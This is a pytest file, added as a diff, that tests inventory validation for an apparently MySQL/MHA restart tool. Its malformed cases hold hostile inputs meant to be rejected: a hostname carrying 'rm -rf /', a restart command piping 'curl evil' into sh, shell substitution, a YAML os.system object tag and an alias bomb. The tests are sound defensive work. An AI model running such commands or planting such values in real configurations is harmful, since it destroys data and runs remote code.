@@ -1,0 +1,293 @@
+"""Inventory validation: every problem at once, with file, line and field path."""
+
+from __future__ import annotations
+
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from harestart.errors import InventoryError, UsageError
+from harestart.inventory import load_inventory, parse_inventory
+from harestart.secret import Secret
+
+REPO = Path(__file__).resolve().parents[2]
+
+VALID = """\
+defaults:
+  ssh: {user: ops, sudo: true}
+  mysql: {user: harestart, password_env: HS_TEST_PW}
+groups:
+  - id: g1
+    account: "1"
+    source: {name: db1, address: 10.0.0.1}
+    replicas:
+      - {name: db2, address: 10.0.0.2}
+    mha:
+      manager: {name: mha, address: 10.0.0.9}
+      config: /etc/mha/app1.cnf
+"""
+
+
+def problems(text: str) -> list[str]:
+    with pytest.raises(InventoryError) as info:
+        parse_inventory(textwrap.dedent(text), "inv.yml")
+    return info.value.problems
+
+
+# (name, inventory text, a fragment every expected message contains, expected line or None)
+MALFORMED = [
+    ("empty file", "", "inv.yml: the file is empty", None),
+    ("only a comment", "# nothing\n", "the file is empty", None),
+    ("not yaml", "groups: [\n  - id: x\n", "not valid YAML", None),
+    ("top level list", "- a\n- b\n", "the top level must be a mapping", 1),
+    ("no groups", "defaults: {}\n", "groups: required but missing", None),
+    ("empty groups", "groups: []\n", "at least one group", 1),
+    (
+        "missing id",
+        VALID.replace("  - id: g1\n    account", "  - account"),
+        "groups[0].id: required",
+        5,
+    ),
+    (
+        "duplicate id",
+        VALID + VALID[VALID.index("  - id: g1") :].replace("db", "xb").replace("10.0.0", "10.1.0"),
+        "duplicate group id 'g1'",
+        13,
+    ),
+    (
+        "no source",
+        VALID.replace("    source: {name: db1, address: 10.0.0.1}\n", ""),
+        "groups[0].source: required",
+        None,
+    ),
+    (
+        "no replicas key",
+        VALID.replace("    replicas:\n      - {name: db2, address: 10.0.0.2}\n", ""),
+        "groups[0].replicas: required",
+        None,
+    ),
+    (
+        "empty replicas",
+        VALID.replace(
+            "    replicas:\n      - {name: db2, address: 10.0.0.2}\n", "    replicas: []\n"
+        ),
+        "at least one replica",
+        8,
+    ),
+    (
+        "same host twice",
+        VALID.replace("{name: db2, address: 10.0.0.2}", "{name: db1, address: 10.0.0.2}"),
+        "host 'db1' is listed twice",
+        9,
+    ),
+    ("same endpoint twice", VALID.replace("10.0.0.2", "10.0.0.1"), "SSH endpoint 10.0.0.1:22", 9),
+    (
+        "unknown key with hint",
+        VALID.replace("  ssh: {user: ops, sudo: true}", "  ssh: {usr: ops, sudo: true}"),
+        "unknown key 'usr' (did you mean 'user'?)",
+        2,
+    ),
+    ("unknown top-level key", VALID + "grups: []\n", "unknown key 'grups'", 13),
+    (
+        "wrong type port",
+        VALID.replace(
+            "{name: db2, address: 10.0.0.2}",
+            "{name: db2, address: 10.0.0.2, ssh: {port: twentytwo}}",
+        ),
+        "groups[0].replicas[0].ssh.port: Input should be a valid integer",
+        9,
+    ),
+    (
+        "port out of range",
+        VALID.replace(
+            "{name: db2, address: 10.0.0.2}", "{name: db2, address: 10.0.0.2, mysql: {port: 70000}}"
+        ),
+        "mysql.port",
+        9,
+    ),
+    (
+        "bool type",
+        VALID.replace("sudo: true", "sudo: sometimes"),
+        "defaults.ssh.sudo: Input should be a valid boolean",
+        2,
+    ),
+    (
+        "zero timeout",
+        VALID.replace("defaults:\n", "defaults:\n  health: {restart_timeout: 0}\n"),
+        "restart_timeout: must be positive",
+        2,
+    ),
+    (
+        "negative lag",
+        VALID.replace("defaults:\n", "defaults:\n  health: {max_lag: -1}\n"),
+        "max_lag: must be zero or more",
+        2,
+    ),
+    (
+        "injected hostname",
+        VALID.replace("address: 10.0.0.2", "address: 'db2;rm -rf /'"),
+        "is not a plain hostname",
+        9,
+    ),
+    (
+        "injected command",
+        VALID.replace(
+            "defaults:\n",
+            "defaults:\n  restart_command: 'systemctl restart mysql; curl evil | sh'\n",
+        ),
+        "contains shell syntax",
+        2,
+    ),
+    (
+        "substitution in command",
+        VALID.replace("defaults:\n", "defaults:\n  restart_command: 'service $(whoami) restart'\n"),
+        "contains shell syntax",
+        2,
+    ),
+    (
+        "relative mha config",
+        VALID.replace("config: /etc/mha/app1.cnf", "config: app1.cnf"),
+        "is not a plain absolute path",
+        12,
+    ),
+    (
+        "python object tag",
+        VALID.replace('account: "1"', "account: !!python/object/apply:os.system ['true']"),
+        "unsupported YAML value",
+        6,
+    ),
+    (
+        "duplicate yaml key",
+        VALID.replace('    account: "1"\n', '    account: "1"\n    account: "2"\n'),
+        "duplicate key 'account'",
+        7,
+    ),
+    (
+        "bad env name",
+        VALID.replace("password_env: HS_TEST_PW", "password_env: 'HS-TEST PW'"),
+        "is not an environment variable name",
+        3,
+    ),
+    ("unknown version", "version: 2\n" + VALID, "only inventory format version 1", 1),
+    (
+        "mha without manager",
+        VALID.replace("      manager: {name: mha, address: 10.0.0.9}\n", ""),
+        "groups[0].mha.manager: required",
+        None,
+    ),
+    (
+        "merge key",
+        VALID.replace("defaults:\n", "defaults:\n  <<: {x: 1}\n"),
+        "merge keys are not supported",
+        2,
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("text", "fragment", "line"), [m[1:] for m in MALFORMED], ids=[m[0] for m in MALFORMED]
+)
+def test_malformed_inventory_is_reported_with_line_and_path(
+    text: str, fragment: str, line: int | None
+) -> None:
+    found = problems(text)
+    matching = [p for p in found if fragment in p]
+    assert matching, f"no problem mentions {fragment!r}: {found}"
+    if line is not None:
+        assert any(p.startswith(f"inv.yml:{line}: ") for p in matching), matching
+
+
+def test_there_are_at_least_twenty_malformed_cases() -> None:
+    assert len(MALFORMED) >= 20
+
+
+def test_every_problem_is_collected_in_one_pass() -> None:
+    text = VALID.replace("sudo: true", "sudo: maybe").replace("address: 10.0.0.2", "address: 'a b'")
+    text = text.replace("config: /etc/mha/app1.cnf", "config: rel.cnf") + "extra: 1\n"
+    found = problems(text)
+    assert len(found) == 4, found
+    lines = [int(p.split(":")[1]) for p in found]
+    assert lines == sorted(lines)
+
+
+def test_alias_bomb_is_refused_quickly() -> None:
+    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
+    for i in range(1, 9):
+        prev = chr(ord("a") + i - 1)
+        cur = chr(ord("a") + i)
+        bomb += f"{cur}: &{cur} [" + ", ".join([f"*{prev}"] * 10) + "]\n"
+    bomb += "groups: *i\n"
+    found = problems(bomb)
+    assert any("alias bomb" in p for p in found), found
+
+
+def test_valid_inventory_resolves_layers_and_defaults(monkeypatch: pytest.MonkeyPatch) -> None:
+    inv = parse_inventory(VALID, "inv.yml")
+    (g,) = inv.groups
+    assert g.id == "g1" and g.account == "1" and g.name == "g1"
+    assert [n.name for n in g.db_nodes] == ["db1", "db2"]
+    assert g.source.ssh.host == "10.0.0.1" and g.source.ssh.user == "ops" and g.source.ssh.sudo
+    assert g.source.restart_command == "systemctl restart mysql"
+    assert g.mha.stop_command == "masterha_stop --conf=/etc/mha/app1.cnf"
+    assert g.mha.log == "/var/log/mha/app1/manager.log"
+    assert g.health.max_lag == 5.0
+    monkeypatch.setenv("HS_TEST_PW", "s3cret-value")
+    ep = g.replicas[0].mysql_endpoint()
+    assert ep.host == "10.0.0.2" and ep.port == 3306 and ep.user == "harestart"
+    assert isinstance(ep.password, Secret) and ep.password.reveal() == "s3cret-value"
+    assert "s3cret-value" not in repr(ep) and "s3cret-value" not in repr(g)
+
+
+def test_unset_password_env_is_an_error_at_run_not_at_plan(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("HS_TEST_PW", raising=False)
+    inv = parse_inventory(VALID, "inv.yml")  # plan-time loading succeeds
+    with pytest.raises(UsageError, match="HS_TEST_PW is not set"):
+        inv.groups[0].source.mysql_endpoint()
+
+
+def test_inline_password_is_a_warning_and_never_rendered() -> None:
+    text = VALID.replace("password_env: HS_TEST_PW", "password: 'inline-pw-123'")
+    inv = parse_inventory(text, "inv.yml")
+    assert any("password given inline" in w and "inv.yml:3:" in w for w in inv.warnings)
+    assert "inline-pw-123" not in repr(inv)
+    assert inv.groups[0].source.mysql_endpoint().password == Secret("inline-pw-123")
+
+
+def test_node_overrides_group_overrides_defaults() -> None:
+    text = VALID.replace(
+        "    source: {name: db1, address: 10.0.0.1}",
+        "    ssh: {user: grpuser, port: 2200}\n"
+        "    source: {name: db1, address: 10.0.0.1, ssh: {port: 2201}, restart_command: service mariadb restart}",
+    )
+    g = parse_inventory(text, "inv.yml").groups[0]
+    assert (g.source.ssh.user, g.source.ssh.port) == ("grpuser", 2201)
+    assert (g.replicas[0].ssh.user, g.replicas[0].ssh.port) == ("grpuser", 2200)
+    assert g.source.restart_command == "service mariadb restart"
+    assert g.replicas[0].restart_command == "systemctl restart mysql"
+
+
+def test_unknown_group_selection_suggests(tmp_path: Path) -> None:
+    inv = parse_inventory(VALID, "inv.yml")
+    with pytest.raises(UsageError, match=r"no group 'g2'.*groups: g1"):
+        inv.select("g2")
+
+
+def test_missing_file_is_an_inventory_error(tmp_path: Path) -> None:
+    with pytest.raises(InventoryError, match="file not found"):
+        load_inventory(tmp_path / "nope.yml")
+
+
+@pytest.mark.parametrize("name", ["lab.yml", "example.yml"])
+def test_shipped_inventories_are_valid(name: str) -> None:
+    inv = load_inventory(REPO / "inventories" / name)
+    assert inv.groups and not inv.warnings
+
+
+def test_example_uses_bastion_sudo_systemctl_two_groups() -> None:
+    inv = load_inventory(REPO / "inventories" / "example.yml")
+    assert len(inv.groups) == 2
+    g = inv.groups[0]
+    assert g.source.ssh.jump is not None and g.source.ssh.sudo
+    assert g.source.restart_command == "systemctl restart mysql"
+    assert inv.groups[1].source.restart_command == "systemctl restart mariadb"
